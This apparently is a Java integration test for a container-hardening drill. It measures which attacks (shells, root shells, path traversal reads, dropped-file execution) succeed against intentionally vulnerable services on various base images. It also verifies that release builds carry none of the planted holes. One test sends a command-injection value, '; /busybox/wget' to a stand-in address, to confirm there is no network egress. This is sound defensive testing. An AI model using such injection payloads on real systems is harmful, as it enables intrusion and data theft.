package org.imagediet.drill;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.imagediet.EngineUnderTest;
import org.imagediet.archive.Secret;
import org.imagediet.archive.SecretSearch;
import org.imagediet.bases.Bases;
import org.imagediet.engine.BuildRequest;
import org.imagediet.engine.BuildResult;
import org.imagediet.engine.Container;
import org.imagediet.engine.ContainerSpec;
import org.imagediet.engine.Engine;
import org.imagediet.engine.ImageBuilder;
import org.imagediet.engine.Progress;
import org.imagediet.engine.TempFolder;
import org.imagediet.image.ContainerImage;
import org.imagediet.observation.Observation;
import org.imagediet.observation.Observer;
import org.imagediet.observation.Service;
import org.imagediet.probe.Probe;
import org.imagediet.workbook.BuildContext;
import org.imagediet.workbook.JavaClasses;
import org.imagediet.workbook.Track;
import org.imagediet.workbook.Workbook;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class DrillIT {

  /** A whole system with a shell, as root. */
  private static final String SYSTEM = "golang:1.24-alpine";

  /** A shell, as nobody. */
  private static final String BUSYBOX = "gcr.io/distroless/static-debian13:debug-nonroot";

  private static final String NO_SHELL = "gcr.io/distroless/static-debian13:nonroot";
  private static final String PYTHON = "gcr.io/distroless/python3-debian13:nonroot";
  private static final String RELEASE = "three-image-diet/drill-it:release";
  private static final String MARK = "by design, for the hardening drill";

  private static final Workbook WORKBOOK = Workbook.find();

  private static Engine engine;
  private static Probe probe;
  private static DrillPrograms programs;

  @BeforeAll
  static void start() {
    engine =
        EngineUnderTest.withBases(Probe.BASE, SYSTEM, "rust:alpine", BUSYBOX, NO_SHELL, PYTHON);
    probe = Probe.start(engine, Probe.BASE);
    programs =
        new DrillPrograms(
            WORKBOOK, engine, Bases.standard(engine), ImageBuilder.choose(engine), Progress.SILENT);
  }

  @AfterAll
  static void stop() {
    engine.untag(RELEASE);
    probe.close();
    engine.close();
  }

  private static ContainerImage read(String name) {
    return EngineUnderTest.image(engine, name);
  }

  private static Map<Attack, Observation> attack(Track track, String name) {
    ContainerImage image = read(name);
    return Drill.run(probe, name, image, programs.of(track, image));
  }

  private static Set<Attack> working(Map<Attack, Observation> seen) {
    return seen.entrySet().stream()
        .filter(attack -> attack.getValue().works())
        .map(Map.Entry::getKey)
        .collect(Collectors.toCollection(() -> EnumSet.noneOf(Attack.class)));
  }

  @Test
  @DisplayName("every attack works on a whole system that runs as root")
  void system() {
    Map<Attack, Observation> seen = attack(Track.GO, SYSTEM);
    assertThat(working(seen)).containsExactly(Attack.values());
    assertThat(seen.get(Attack.ROOT_SHELL).evidence()).endsWith("user id 0");
  }

  @Test
  @DisplayName("with a shell and no rights a command runs, but not as root")
  void shellOfNobody() {
    Map<Attack, Observation> seen = attack(Track.GO, BUSYBOX);
    assertThat(working(seen))
        .containsExactly(
            Attack.SHELL,
            Attack.READ_FILE,
            Attack.READ_ENVIRONMENT,
            Attack.READ_SYSTEM,
            Attack.RUN_DROPPED);
    assertThat(seen.get(Attack.ROOT_SHELL).evidence()).endsWith("user id 65532");
  }

  @Test
  @DisplayName("without a shell the traversal still reads, in each language")
  void noShell() {
    for (Map<Attack, Observation> seen :
        List.of(
            attack(Track.GO, NO_SHELL),
            attack(Track.JAVA, Probe.BASE),
            attack(Track.PYTHON, PYTHON),
            attack(Track.RUST, NO_SHELL))) {
      assertThat(working(seen))
          .containsExactly(Attack.READ_FILE, Attack.READ_ENVIRONMENT, Attack.READ_SYSTEM);
      assertThat(seen.get(Attack.SHELL).evidence()).contains("sh");
      assertThat(seen.get(Attack.RUN_DROPPED).evidence()).startsWith("left a file in /tmp");
    }
  }

  @Test
  @DisplayName("on scratch it reads too, learns no system, and replaces nothing that is root's")
  void scratch() throws IOException {
    build(release(""));
    assertThat(working(attack(Track.GO, RELEASE)))
        .containsExactly(Attack.READ_FILE, Attack.READ_ENVIRONMENT);
  }

  @Test
  @DisplayName("replaces a program whose folder is the user's own, shell or no shell")
  void ownFolder() throws IOException {
    build(release("--chown=65532:65532"));
    Map<Attack, Observation> seen = attack(Track.GO, RELEASE);
    assertThat(working(seen)).contains(Attack.REPLACE_PROGRAM).doesNotContain(Attack.SHELL);
    assertThat(seen.get(Attack.REPLACE_PROGRAM).evidence()).endsWith("/opt/service/app");
  }

  private static String release(String owner) {
    return """
        FROM golang:1.24-alpine AS build
        WORKDIR /src
        COPY . .
        RUN --mount=type=cache,target=/root/.cache/go-build \\
            CGO_ENABLED=0 go build -trimpath -ldflags="-s -w" -o /opt/service/app ./cmd/app
        FROM scratch
        COPY %s --from=build /opt/service /opt/service
        USER 65532:65532
        ENTRYPOINT ["/opt/service/app"]
        """
        .formatted(owner);
  }

  private static void build(String dockerfile) throws IOException {
    build(Track.GO, dockerfile);
  }

  private static void build(Track track, String dockerfile) throws IOException {
    try (TempFolder folder = TempFolder.create()) {
      Path file = Files.writeString(folder.path().resolve("Dockerfile"), dockerfile);
      try (BuildContext context = BuildContext.of(WORKBOOK.service(track), file)) {
        // An image that loses its name is there still.
        engine.untag(RELEASE);
        BuildRequest request =
            BuildRequest.of(context.path(), RELEASE).cacheNamespace(WORKBOOK.cacheNamespace());
        BuildResult result = ImageBuilder.choose(engine).build(request, line -> {});
        assertThat(result.succeeded()).as(String.join("\n", result.lastLines())).isTrue();
      }
    }
  }

  @Test
  @DisplayName("no release has the holes in it, and the drill builds say what they are")
  void releaseHasNoHoles() throws IOException {
    build(release(""));
    try (InputStream archive = engine.save(RELEASE)) {
      assertThat(SecretSearch.search(archive, List.of(new Secret("the mark", MARK)))).isEmpty();
    }
    try (TempFolder folder = TempFolder.create()) {
      JavaClasses.compile(
          List.of(WORKBOOK.service(Track.JAVA).resolve("src/main/java")), folder.path());
      try (Stream<Path> classes = Files.walk(folder.path())) {
        assertThat(classes.filter(Files::isRegularFile))
            .isNotEmpty()
            .noneMatch(file -> file.toString().contains("Drill"))
            .noneMatch(file -> content(file).contains(MARK));
      }
    }
    build(
        Track.RUST,
        """
        FROM rust:alpine AS build
        WORKDIR /src
        COPY . .
        RUN cargo build --release --offline --locked
        FROM scratch
        COPY --from=build /src/target/release/app /app
        """);
    try (InputStream archive = engine.save(RELEASE)) {
      assertThat(SecretSearch.search(archive, List.of(new Secret("the mark", MARK)))).isEmpty();
    }
    for (Track track : List.of(Track.GO, Track.JAVA, Track.RUST)) {
      String name = track == Track.JAVA ? Probe.BASE : NO_SHELL;
      DrillProgram program = programs.of(track, read(name));
      try (Container container = drilled(name, program)) {
        Service.start(probe, container, Observer.port(read(name)));
        assertThat(container.log()).startsWith("VULNERABLE " + MARK);
      }
    }
  }

  private static String content(Path file) {
    try {
      return Files.readString(file, java.nio.charset.StandardCharsets.ISO_8859_1);
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private static Container drilled(String name, DrillProgram program) {
    Container container =
        probe.create(ContainerSpec.image(name).entrypoint(program.argv().toArray(String[]::new)));
    container.copyIn("/", new ByteArrayInputStream(program.files()));
    return container;
  }

  @Test
  @DisplayName("what a shell in the drill reaches is the loopback and nothing else")
  void noWayOut() {
    DrillProgram program = programs.of(Track.GO, read(BUSYBOX));
    try (Container container = drilled(BUSYBOX, program)) {
      Service service = Service.start(probe, container, 8080);
      assertThat(probe.listening()).containsExactly(8080);
      String path = "/drill/ping?host=%3B+/busybox/wget+-T+2+-O-+http%3A//192.0.2.1/";
      assertThat(service.ask("GET", path).json().path("output").asText()).contains("unreachable");
      assertThat(
              container
                  .execute(List.of("/busybox/cat", "/proc/net/dev"), Duration.ofSeconds(10))
                  .output()
                  .lines()
                  .filter(line -> line.contains(":")))
          .hasSize(1)
          .allMatch(line -> line.strip().startsWith("lo:"));
    }
  }

  @ParameterizedTest
  @CsvSource({"GO, Dockerfile", "RUST, Dockerfile.rust"})
  @DisplayName("the drill builds of the Go and the Rust service pass their own tests")
  void ownTests(Track track, String resource) throws IOException {
    try (TempFolder folder = TempFolder.create();
        InputStream recipe = Drill.class.getResourceAsStream(resource)) {
      Path file = folder.path().resolve("Dockerfile");
      Files.write(file, recipe.readAllBytes());
      try (BuildContext context = BuildContext.of(WORKBOOK.service(track), file)) {
        engine.untag(RELEASE);
        BuildResult result =
            ImageBuilder.choose(engine)
                .build(BuildRequest.of(context.path(), RELEASE).target("test"), line -> {});
        assertThat(result.succeeded()).as(String.join("\n", result.lastLines())).isTrue();
      }
    }
  }

  @Test
  @DisplayName("counts the surface of a running image")
  void surface() {
    ContainerImage image = read(Probe.BASE);
    DrillProgram program = programs.of(Track.JAVA, image);
    Observer observer = new Observer(probe, image, options -> drilled(Probe.BASE, program));
    Surface surface = Surface.of(image, observer.asItIs());
    assertThat(surface.counts()).hasSize(SurfacePart.values().length);
    assertThat(surface.count(SurfacePart.PORTS)).isEqualTo(1);
    assertThat(surface.count(SurfacePart.CAPABILITIES)).isZero();
    assertThat(surface.count(SurfacePart.BOUNDING)).isPositive();
    assertThat(surface.count(SurfacePart.SHELLS)).isZero();
    assertThat(surface.count(SurfacePart.INTERPRETERS)).isEqualTo(1);
    assertThat(surface.count(SurfacePart.LIBRARIES)).isPositive();
    SurfaceReport report = new SurfaceReport();
    report.add("distroless", surface);
    report.add("distroless", attack(Track.JAVA, Probe.BASE));
    assertThat(report.console("java").lines())
        .anyMatch(line -> line.matches("shells +0"))
        .anyMatch(line -> line.matches("runs a shell command +no"))
        .anyMatch(line -> line.matches("reads files out of bounds +yes"));
  }
}
